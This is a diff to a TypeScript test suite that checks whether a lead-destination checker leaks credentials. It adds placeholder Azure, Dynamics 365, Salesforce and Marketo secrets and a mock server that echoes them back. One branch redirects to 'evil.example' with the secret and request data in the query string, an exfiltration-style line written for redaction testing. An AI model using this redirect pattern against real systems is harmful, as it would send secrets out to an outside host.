@@ -16,9 +16,14 @@ const KEY = Buffer.from(Array.from({ length: 64 }, (_, at) => (at * 37 + 11) % 2
 const SIGNATURE = 'wK3xQ9vB7nT2mZ5pL8rD4sF6hJ1gC0yE-aU_iOXkVtM'
 const TOKEN = 'q7Zr2Lm9Xc4Vb8Nn1Kp6'
 
+const TENANT = '3f1b9c52-8e47-4d06-b7a1-5c20e94d7f83'
+const APPLICATION = '8d2e61f4-09b3-47ca-a5d8-e71f3c6b9024'
+const CLIENT_SECRET = 'Yq8~Kx.2vNw_7RtLp4Zs9BhFm1Jd6Gc3Ea5Uo'
+
 interface Canary {
-  readonly destination: Readonly<Record<string, string>>
-  readonly host: string
+  readonly destination: Readonly<Record<string, unknown>>
+  /** Every host the check may turn to. */
+  readonly hosts: readonly string[]
   readonly secret: string
 }
 
@@ -28,7 +33,7 @@ const CANARIES: Readonly<Record<string, Canary>> = {
       type: 'https-endpoint',
       url: `https://prod-01.westeurope.logic.azure.com/workflows/0123456789abcdef0123456789abcdef/triggers/manual/paths/invoke?api-version=2016-06-01&sp=%2Ftriggers%2Fmanual%2Frun&sv=1.0&sig=${SIGNATURE}`,
     },
-    host: 'prod-01.westeurope.logic.azure.com',
+    hosts: ['prod-01.westeurope.logic.azure.com'],
     secret: SIGNATURE,
   },
   'the key of a function': {
@@ -36,12 +41,12 @@ const CANARIES: Readonly<Record<string, Canary>> = {
       type: 'https-endpoint',
       url: `https://contoso.azurewebsites.net/api/lead?code=${SIGNATURE}==`,
     },
-    host: 'contoso.azurewebsites.net',
+    hosts: ['contoso.azurewebsites.net'],
     secret: SIGNATURE,
   },
   'the token in a hook path': {
     destination: { type: 'https-endpoint', url: `https://hook.eu1.make.com/${TOKEN}` },
-    host: 'hook.eu1.make.com',
+    hosts: ['hook.eu1.make.com'],
     secret: TOKEN,
   },
   'the key of a storage account': {
@@ -49,7 +54,7 @@ const CANARIES: Readonly<Record<string, Canary>> = {
       type: 'azure-table',
       connectionString: `DefaultEndpointsProtocol=https;AccountName=contosoleads;AccountKey=${KEY};EndpointSuffix=core.windows.net`,
     },
-    host: 'contosoleads.table.core.windows.net',
+    hosts: ['contosoleads.table.core.windows.net'],
     secret: KEY,
   },
   'the signature of a shared access signature': {
@@ -57,8 +62,87 @@ const CANARIES: Readonly<Record<string, Canary>> = {
       type: 'azure-table',
       connectionString: `TableEndpoint=https://contososas.table.core.windows.net;SharedAccessSignature=sv=2022-11-02&ss=t&srt=sco&sp=rwdlau&se=2099-01-01T00:00:00Z&sig=${encodeURIComponent(`${KEY.slice(0, 43)}=`)}`,
     },
-    host: 'contososas.table.core.windows.net',
+    hosts: ['contososas.table.core.windows.net'],
     secret: `${KEY.slice(0, 43)}=`,
+  },
+  'the client secret of an Entra application': {
+    destination: {
+      type: 'dynamics-365',
+      url: 'https://contoso.crm4.dynamics.com',
+      auth: {
+        type: 'entra',
+        directoryId: TENANT,
+        applicationId: APPLICATION,
+        clientSecret: CLIENT_SECRET,
+      },
+    },
+    hosts: ['contoso.crm4.dynamics.com', 'login.microsoftonline.com'],
+    secret: CLIENT_SECRET,
+  },
+  'the password of a Dynamics 365 user': {
+    destination: {
+      type: 'dynamics-365',
+      url: 'https://contoso.crm4.dynamics.com',
+      auth: {
+        type: 'office-365',
+        userName: 'leads@contoso.onmicrosoft.com',
+        password: CLIENT_SECRET,
+      },
+    },
+    hosts: ['contoso.crm4.dynamics.com', 'login.microsoftonline.com'],
+    secret: CLIENT_SECRET,
+  },
+  'the client secret of a Salesforce connected app': {
+    destination: {
+      type: 'salesforce',
+      organizationId: '00Do0000000ZHog',
+      api: {
+        type: 'client-credentials',
+        loginUrl: 'https://contoso.my.salesforce.com',
+        clientId: `3MVG9${TOKEN}`,
+        clientSecret: CLIENT_SECRET,
+      },
+    },
+    hosts: ['webto.salesforce.com', 'contoso.my.salesforce.com'],
+    secret: CLIENT_SECRET,
+  },
+  'the password and token of a Salesforce user': {
+    destination: {
+      type: 'salesforce',
+      organizationId: '00Do0000000ZHog',
+      api: {
+        type: 'password',
+        userName: 'leads@contoso.example',
+        password: CLIENT_SECRET,
+        securityToken: TOKEN,
+      },
+    },
+    hosts: ['webto.salesforce.com', 'login.salesforce.com'],
+    secret: CLIENT_SECRET,
+  },
+  'the access token of a Salesforce session': {
+    destination: {
+      type: 'salesforce',
+      organizationId: '00Do0000000ZHog',
+      api: {
+        type: 'access-token',
+        instanceUrl: 'https://contoso.my.salesforce.com',
+        accessToken: `00Do0000000ZHog!${CLIENT_SECRET}`,
+      },
+    },
+    hosts: ['webto.salesforce.com', 'contoso.my.salesforce.com'],
+    secret: CLIENT_SECRET,
+  },
+  'the client secret of a Marketo service': {
+    destination: {
+      type: 'marketo',
+      serverId: 'ys12',
+      munchkinId: '123-PQR-789',
+      formId: 1179,
+      api: { clientId: APPLICATION, clientSecret: CLIENT_SECRET },
+    },
+    hosts: ['app-ys12.marketo.com', '123-pqr-789.mktorest.com'],
+    secret: CLIENT_SECRET,
   },
 }
 
@@ -84,9 +168,15 @@ const WAYS: readonly Way[] = ['body', 'header', 'redirect', 'success']
 function parrot(secret: string, way: Way) {
   return (request: IncomingMessage, response: ServerResponse): void => {
     const received = `${request.url} ${JSON.stringify(request.headers)}`
-    const words = [...spellings(secret), received]
-    request.resume().on('end', () => {
-      if (way === 'redirect') {
+    const chunks: Buffer[] = []
+    request.on('data', (chunk: Buffer) => chunks.push(chunk))
+    request.on('end', () => {
+      const words = [...spellings(secret), received, Buffer.concat(chunks).toString()]
+      if (isUnauthenticatedDynamics(request)) {
+        // Without this the check would rightly keep its credentials to itself.
+        const challenge = `Bearer authorization_uri=https://login.windows.net/${TENANT}/oauth2/authorize`
+        response.writeHead(401, { 'www-authenticate': challenge }).end()
+      } else if (way === 'redirect') {
         response.writeHead(302, {
           location: `https://evil.example/?x=${words.slice(0, 3).join('&y=')}`,
         })
@@ -113,6 +203,10 @@ function parrot(secret: string, way: Way) {
   }
 }
 
+function isUnauthenticatedDynamics({ headers }: IncomingMessage): boolean {
+  return /\.dynamics\.com/.test(headers.host ?? '') && headers.authorization === undefined
+}
+
 /** Every 12 characters of every spelling, in lower case. */
 function pieces(secret: string): readonly string[] {
   return spellings(secret)
@@ -129,17 +223,17 @@ const wide = { width: 100, color: false, locate: () => undefined }
 
 /** What the surfaces make of one check: the API's report and events, the stored report, the page, the formats. */
 async function outputsOf(
-  { destination, host, secret }: Canary,
+  { destination, hosts, secret }: Canary,
   way: Way,
 ): Promise<readonly string[]> {
-  const leaf = await createLeaf({ names: [host] }, authority)
+  const leaf = await createLeaf({ names: hosts }, authority)
   const site = await httpsSite(parrot(secret, way), leaf)
   const app = createApp(testServices(site.port, {}, authority.pem))
   const post = (accept: string) =>
     app.request('/v1/checks', {
       method: 'POST',
       headers: { 'content-type': 'application/json', accept },
-      body: JSON.stringify({ destination, options: { timeoutMs: 5_000 } }),
+      body: JSON.stringify({ destination, options: { timeoutMs: 2_000 } }),
     })
   const answer = await (await post('application/json')).text()
   const report = JSON.parse(answer) as Report
